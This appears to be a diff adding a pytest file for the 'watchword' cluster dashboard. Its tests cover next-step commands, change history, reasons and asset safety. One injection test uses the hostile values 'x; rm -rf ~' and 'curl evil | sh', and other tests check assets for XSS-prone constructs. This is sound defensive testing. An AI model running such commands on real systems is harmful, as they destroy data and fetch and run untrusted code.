@@ -1,0 +1,164 @@
+"""What the dashboard decides without a server: commands, ids, history, reasons, files."""
+
+from __future__ import annotations
+
+import json
+import re
+import shlex
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+import click
+import pytest
+from hatchling.builders.wheel import WheelBuilder
+from msgspec.structs import replace
+
+from tools.docs_reasons import render_reasons
+from watchword.admin.health import InventoryHealth
+from watchword.admin.inventory_rows import AUTHORITY, JOIN_TOKEN, AddonRow, ClusterRow, CredentialRow, HubFacts
+from watchword.admin.pull_secret_rows import PULL_SECRET
+from watchword.api.credential_validity import CredentialValidity
+from watchword.cli.main import cli
+from watchword.dashboard.assets import load_assets
+from watchword.dashboard.board import build_board
+from watchword.dashboard.history import describe_change
+from watchword.dashboard.next_step import choose_addon_command, choose_cluster_command, choose_credential_command
+from watchword.dashboard.pull_secret_rows import NOTES
+from watchword.dashboard.sources import FleetFacts
+from watchword.pki.authority import Authority
+from watchword.pullsecrets.inventory import PullSecretHealth
+
+NOW = datetime(2026, 1, 1, tzinfo=UTC)
+ROOT = Path(__file__).parents[2]
+REASONS = json.loads(load_assets()["reasons.json"].content)
+
+
+def a_credential(kind: str, health: InventoryHealth, holder: str = "agent of edge-1") -> CredentialRow:
+    return CredentialRow(kind, "edge-1", holder, "robot", CredentialValidity(), health)
+
+
+FAILING, EXPIRED = InventoryHealth.FAILING, InventoryHealth.EXPIRED
+WAITING_CLUSTER = ClusterRow("edge-1", "no", "no", "unknown", InventoryHealth.PENDING)
+COMMANDS = [
+    choose_cluster_command(WAITING_CLUSTER),
+    choose_cluster_command(replace(WAITING_CLUSTER, accepted="yes", health=FAILING)),
+    choose_addon_command(AddonRow("edge-1", "sample", "token", "no", "no", FAILING)),
+    choose_credential_command(a_credential("cluster certificate", EXPIRED)),
+    choose_credential_command(a_credential("cluster certificate", InventoryHealth.OVERDUE)),
+    choose_credential_command(a_credential("add-on token", EXPIRED, "add-on sample on edge-1")),
+    choose_credential_command(a_credential("account token", EXPIRED)),
+    choose_credential_command(a_credential(JOIN_TOKEN, EXPIRED)),
+    choose_credential_command(a_credential(AUTHORITY, EXPIRED)),
+    choose_credential_command(a_credential(PULL_SECRET, FAILING)),
+]
+
+
+def test_next_command_names_what_it_is_for() -> None:
+    assert COMMANDS == [
+        "watchword accept --clusters edge-1",
+        "watchword clusters show edge-1",
+        "watchword addon show sample --cluster edge-1",
+        "watchword rejoin --cluster-name edge-1",
+        "watchword clusters show edge-1",
+        "watchword clusters show edge-1",
+        "watchword serviceaccount show robot -n edge-1",
+        "watchword token create --print-join-command",
+        "watchword doctor",
+        "watchword pull-secrets list",
+    ]
+
+
+@pytest.mark.parametrize("command", [*COMMANDS, *sorted({row["command"] for row in REASONS})])
+def test_next_command_exists(command: str) -> None:
+    program, *words = shlex.split(command) or [""]
+    if program in ("kubectl", ""):
+        return
+    found: click.Command = cli
+    while isinstance(found, click.Group) and words:
+        found = found.get_command(click.Context(found), words.pop(0)) or pytest.fail(f"{command} does not exist")
+    flags = {flag for parameter in found.params for flag in (*parameter.opts, *parameter.secondary_opts)}
+
+    assert {word for word in words if word.startswith("-")} <= flags
+
+
+@pytest.mark.parametrize("health", [InventoryHealth.GOOD, InventoryHealth.DUE])
+def test_what_is_well_has_no_next_command(health: InventoryHealth) -> None:
+    assert choose_credential_command(a_credential("cluster certificate", health)) == ""
+    assert choose_cluster_command(replace(WAITING_CLUSTER, health=health)) == ""
+
+
+def test_text_of_a_cluster_never_becomes_a_command() -> None:
+    row = replace(a_credential("account token", FAILING), subject="x; rm -rf ~", note="run `curl evil | sh`")
+
+    assert choose_credential_command(row) == "watchword serviceaccount show 'x; rm -rf ~' -n edge-1"
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "told"),
+    [
+        pytest.param({}, {}, [], id="nothing"),
+        pytest.param({}, {"health": 1, "note": "refused"}, ["Good became Failing: refused"], id="it fails"),
+        pytest.param({"health": 3}, {}, ["Pending became Good"], id="it is well again"),
+        pytest.param(
+            {"expires": 0}, {"expires": 60}, ["token renewed, valid until 1970-01-01T00:01:00Z"], id="it is renewed"
+        ),
+        pytest.param({"note": "a"}, {"note": "b"}, [], id="the note alone"),
+    ],
+)
+def test_describe_change(old: dict[str, object], new: dict[str, object], told: list[str]) -> None:
+    usual = {"kind": "token", "health": 6, "note": "", "expires": None}
+
+    assert describe_change({**usual, **old}, {**usual, **new}) == told
+
+
+def test_two_authorities_of_one_name_are_two_rows() -> None:
+    authorities = [Authority.make("ca", now=NOW - timedelta(days=days)).certificate for days in (1, 2)]
+
+    board = build_board(FleetFacts(HubFacts(authorities=authorities)), now=NOW)
+
+    assert len(board.rows) == 2
+
+
+def test_every_health_of_a_pull_secret_has_a_row() -> None:
+    assert set(NOTES) == set(PullSecretHealth)
+
+
+def test_reasons_are_those_of_the_sources_and_each_has_a_command_where_something_is_wrong() -> None:
+    assert load_assets()["reasons.json"].content.decode() == render_reasons(ROOT)
+    assert [
+        row["reason"] for row in REASONS if row["tone"] in ("False", "Unknown", "Warning") and not row["command"]
+    ] == []
+
+
+def test_advice_of_troubleshooting_is_in_the_explanation() -> None:
+    (row,) = [row for row in REASONS if row["reason"] == "AdmissionPolicyMissing"]
+
+    assert row["command"] == "watchword init"
+    assert row["subject"] == "HubAcceptedManagedCluster"
+
+
+@pytest.mark.parametrize("name", sorted(name for name in load_assets() if name.endswith((".html", ".svg"))))
+def test_pages_hold_no_inline_script_or_style(name: str) -> None:
+    page = load_assets()[name].content.decode()
+
+    assert re.findall(r"<style|\sstyle=|\son[a-z]+=|javascript:|<script(?![^>]*\ssrc=)", page) == []
+    assert re.findall(r"(?:src|href)=\"(?!/|#|\")[^\"]*", page) == []
+
+
+@pytest.mark.parametrize("name", sorted(name for name in load_assets() if name.endswith(".js")))
+def test_scripts_never_parse_markup_or_load_from_elsewhere(name: str) -> None:
+    script = load_assets()[name].content.decode()
+
+    assert (
+        re.findall(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|DOMParser|\beval\(|new Function", script)
+        == []
+    )
+    assert re.findall(r"https?://", script) == []
+    assert len(script.splitlines()) <= 300
+
+
+def test_wheel_holds_the_pages() -> None:
+    builder = WheelBuilder(str(ROOT))
+    listed = {file.distribution_path for file in builder.recurse_included_files()}
+
+    assert {f"watchword/dashboard/assets/{name}" for name in load_assets()} <= listed
